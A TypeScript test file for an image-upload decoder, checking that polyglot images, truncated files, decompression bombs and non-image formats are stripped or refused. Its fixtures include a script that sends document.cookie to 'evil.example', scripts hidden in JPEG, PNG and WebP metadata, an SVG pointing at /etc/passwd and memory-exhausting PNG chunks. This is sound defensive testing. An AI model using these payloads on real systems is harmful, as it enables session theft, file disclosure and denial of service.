import { randomBytes } from "node:crypto";
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { describe, expect, test } from "vitest";
import { asPhoto, PHOTO_BYTES_MAX } from "../../src/pictures/decoder.ts";
import { noise } from "../shop/reviews/some-pictures.ts";

const script = "<script>fetch('https://evil.example/'+document.cookie)</script>";

/** A chunk of a PNG. https://www.w3.org/TR/png-3/#5Chunk-layout */
function chunk(type: string, contents: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), contents]);
  const chunked = Buffer.alloc(body.length + 8);
  chunked.writeUInt32BE(contents.length);
  body.copy(chunked, 4);
  chunked.writeUInt32BE(crc32(body), body.length + 4);
  return chunked;
}
function png(width: number, height: number, data: Uint8Array, ...more: Buffer[]): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width);
  header.writeUInt32BE(height, 4);
  header.set([8, 2], 8); // 8 bits, colours
  return Buffer.concat([
    Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
    chunk("IHDR", header),
    ...more,
    chunk("IDAT", data),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}
const rows = (width: number, height: number) => deflateSync(Buffer.alloc(height * (1 + width * 3)));

const small = () => noise(40, 30);
const animated = async (frames: number) =>
  await sharp(randomBytes(frames * 3), { raw: { width: 1, height: frames, channels: 3, pageHeight: 1 } })
    .webp({ delay: Array<number>(frames).fill(10), lossless: true, effort: 0 })
    .toBuffer();

describe("what is a picture and something else as well comes out as the picture only:", () => {
  test.each([
    [
      "a JPEG with a page behind it",
      async () => Buffer.concat([await small().jpeg().toBuffer(), Buffer.from(script)]),
    ],
    [
      "a JPEG with an archive behind it",
      async () =>
        Buffer.concat([
          await small().jpeg().toBuffer(),
          Buffer.from("PK\x03\x04evil.exe"),
          randomBytes(900),
          Buffer.from(script),
        ]),
    ],
    [
      "a JPEG with a page in its comment",
      async () => {
        const jpeg = await small().jpeg().toBuffer();
        const comment = Buffer.from(`  ${script}`);
        comment.writeUInt16BE(comment.length);
        return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), comment, jpeg.subarray(2)]);
      },
    ],
    [
      "a PNG with a page in its text",
      async () => png(40, 30, rows(40, 30), chunk("tEXt", Buffer.from(`Comment\0${script}`, "latin1"))),
    ],
    [
      "a PNG with a page behind it",
      async () => Buffer.concat([await small().png().toBuffer(), Buffer.from(script)]),
    ],
    [
      "a WebP with a page as its XMP",
      async () =>
        await small().withXmp(`<x:xmpmeta xmlns:x='adobe:ns:meta/'>${script}</x:xmpmeta>`).webp().toBuffer(),
    ],
  ])("%s", async (_, make) => {
    const sent = await make();
    expect(sent.includes("evil")).toBe(true);
    const { bytes } = await asPhoto(sent);
    expect(bytes.includes("evil")).toBe(false);
    const { width, height, exif, xmp, icc, comments } = await sharp(bytes).metadata();
    expect([width, height, exif, xmp, icc, comments]).toEqual([
      40,
      30,
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
  });
});

describe("what is cut short is no picture:", () => {
  test.each(["jpeg", "png", "webp"] as const)("%s, wherever it is cut", async (format) => {
    const whole = await noise(120, 90).toFormat(format).toBuffer();
    await asPhoto(whole);
    for (const part of [0.02, 0.1, 0.5, 0.9, 0.98])
      await expect(asPhoto(whole.subarray(0, Math.floor(whole.length * part)))).rejects.toMatchObject({
        code: "UNDECODABLE",
        reason: "not-a-picture",
      });
  });
});

describe("what would take much memory or time is refused, or costs little:", () => {
  test("a PNG that says it has 50,000 by 50,000 pixels", async () => {
    const bomb = png(50_000, 50_000, deflateSync(Buffer.alloc(1_000_000)));
    await expect(asPhoto(bomb)).rejects.toMatchObject({ code: "UNDECODABLE", reason: "too-large" });
  });

  test("a WebP of 10,000 frames is its first one", async () => {
    const { bytes } = await asPhoto(await animated(10_000));
    expect(await sharp(bytes).metadata()).toMatchObject({ width: 1, height: 1, format: "jpeg" });
  });

  test.each([
    ["a colour profile", "iCCP", Buffer.from("x\0\0", "latin1")],
    ["a text", "zTXt", Buffer.from("x\0\0", "latin1")],
  ])("a PNG with %s that unpacks to 256 MB", async (_, type, head) => {
    const packed = deflateSync(Buffer.alloc(256 * 1024 * 1024));
    const before = process.memoryUsage().rss;
    const { bytes } = await asPhoto(png(40, 30, rows(40, 30), chunk(type, Buffer.concat([head, packed]))));
    expect(bytes.byteLength).toBeLessThan(PHOTO_BYTES_MAX);
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024);
  });

  test("a picture of one very long row", async () => {
    const { bytes } = await asPhoto(png(1_000_000, 1, rows(1_000_000, 1)));
    const { width = 0, height } = await sharp(bytes).metadata();
    expect([width <= 1600, height]).toEqual([true, 1]);
  });
});

describe("what no decoder is asked about:", () => {
  const isoMedia = (brand: string) =>
    Buffer.concat([
      Buffer.from([0, 0, 0, 24]),
      Buffer.from(`ftyp${brand}\0\0\0\0mif1${brand}`, "latin1"),
      randomBytes(600),
    ]);
  test.each([
    ["HEIC", async () => isoMedia("heic")],
    ["AVIF", async () => isoMedia("avif")],
    [
      "an SVG behind an XML head",
      async () =>
        Buffer.from(
          `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>`,
        ),
    ],
    ["a page", async () => Buffer.from(`<!doctype html>${script}`)],
    ["a GIF that moves", async () => Buffer.from("GIF89a/*\x01\x01*/=1;alert(1)", "latin1")],
    ["a PDF", async () => Buffer.from("%PDF-1.7\n%\xff\xd8\xff", "latin1")],
    ["a JPEG behind a byte", async () => Buffer.concat([Buffer.from([0]), await small().jpeg().toBuffer()])],
  ])("%s", async (_, make) => {
    await expect(asPhoto(await make())).rejects.toMatchObject({ reason: "not-a-picture" });
  });
});

test.each([1, 2, 3, 4, 5, 6, 7, 8])(
  "a photo of orientation %d comes out upright, and says nothing of it",
  async (orientation) => {
    const onItsSide = orientation >= 5;
    const sent = await noise(60, 40).withMetadata({ orientation }).jpeg().toBuffer();
    const { width, height, orientation: left } = await sharp((await asPhoto(sent)).bytes).metadata();
    expect([width, height, left]).toEqual([onItsSide ? 40 : 60, onItsSide ? 60 : 40, undefined]);
  },
);

test("colours of another profile are turned into what is shown without one", async () => {
  const red = { create: { width: 8, height: 8, channels: 3, background: { r: 200, g: 30, b: 30 } } } as const;
  const wide = await sharp(red).withIccProfile("p3").png().toBuffer();
  expect((await sharp(wide).metadata()).icc).toBeDefined();
  const { bytes } = await asPhoto(wide);
  expect((await sharp(bytes).metadata()).icc).toBeUndefined();
  const [r = 0, g = 0, b = 0] = await sharp(bytes).raw().toBuffer();
  expect(Math.abs(r - 200) + Math.abs(g - 30) + Math.abs(b - 30)).toBeLessThan(20);
});
